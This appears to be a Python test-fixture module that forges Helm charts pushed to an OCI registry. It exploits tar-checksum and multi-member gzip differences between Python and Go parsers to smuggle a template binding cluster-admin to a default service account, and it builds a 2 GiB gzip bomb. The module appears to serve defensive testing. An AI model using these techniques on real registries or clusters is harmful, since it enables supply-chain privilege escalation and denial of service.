"""Charts as somebody with write access to the registry might forge them."""

import gzip
import io
import json
import tarfile

import httpx

from scripts.document import digest_of

BINDING = b"""\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: forged}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: default, namespace: apps}]
"""
END = bytes(1024)  # of a tar


def member(name: str, data: bytes) -> bytes:
    """A member of a tar. Its header's checksum is one that Python's tarfile takes for no header, and stops at without
    an error; Go reads on."""
    info = tarfile.TarInfo(name)
    info.size = len(data)
    header = bytearray(info.tobuf(tarfile.USTAR_FORMAT)[:512])
    header[148:156] = b" " * 8
    header[148:156] = (b"\0%06o\0" % sum(header)).ljust(8, b" ")[:8]
    return bytes(header) + data + bytes(-len(data) % 512)


def forged(archive: bytes) -> bytes:
    """The chart with one more template, which Helm renders."""
    stream = gzip.decompress(archive)
    with tarfile.open(fileobj=io.BytesIO(stream)) as tar:
        last = max(tar, key=lambda it: it.offset_data)
        top = last.name.partition("/")[0]
    end = last.offset_data + last.size + -last.size % 512
    return gzip.compress(stream[:end] + member(f"{top}/templates/zz.yaml", BINDING) + END, mtime=0)


def with_garbage(archive: bytes) -> bytes:
    return archive + b"garbage"


def with_a_second_member(archive: bytes) -> bytes:
    """What Go's gzip reads as one stream."""
    return archive + gzip.compress(member("orders/templates/zz.yaml", BINDING) + END, mtime=0)


def bomb(archive: bytes) -> bytes:
    """Our tar with 2 GiB of zeros after it, a thousandth of that on the wire."""
    packed = io.BytesIO()
    with gzip.open(packed, "wb", 1) as file:
        file.write(gzip.decompress(archive))
        for _ in range(2048):
            file.write(bytes(2**20))
    return packed.getvalue()


def push_layers(reference: str, layers: list[tuple[str, bytes]], **more: object) -> None:
    """Publishes a manifest of `layers`, each a media type and its bytes, with `more` fields, under HOST/PATH:TAG."""
    host, _, rest = reference.partition("/")
    name, _, tag = rest.rpartition(":")
    place = f"http://{host}/v2/{name}"
    for data in (b"{}", *(data for _, data in layers)):
        where = httpx.post(f"{place}/blobs/uploads/").headers["location"]
        httpx.put(httpx.URL(place).join(where).copy_merge_params({"digest": digest_of(data)}), content=data)
    manifest = {
        "schemaVersion": 2,
        "config": descriptor("application/vnd.cncf.helm.config.v1+json", b"{}"),
        "layers": [descriptor(*layer) for layer in layers],
        **more,
    }
    kind = "application/vnd.oci.image.manifest.v1+json"
    answer = httpx.put(f"{place}/manifests/{tag}", content=json.dumps(manifest), headers={"Content-Type": kind})
    assert answer.status_code == 201, answer.text


def descriptor(media_type: str, data: bytes) -> dict[str, object]:
    """What a manifest says of `data`."""
    return {"mediaType": media_type, "digest": digest_of(data), "size": len(data)}
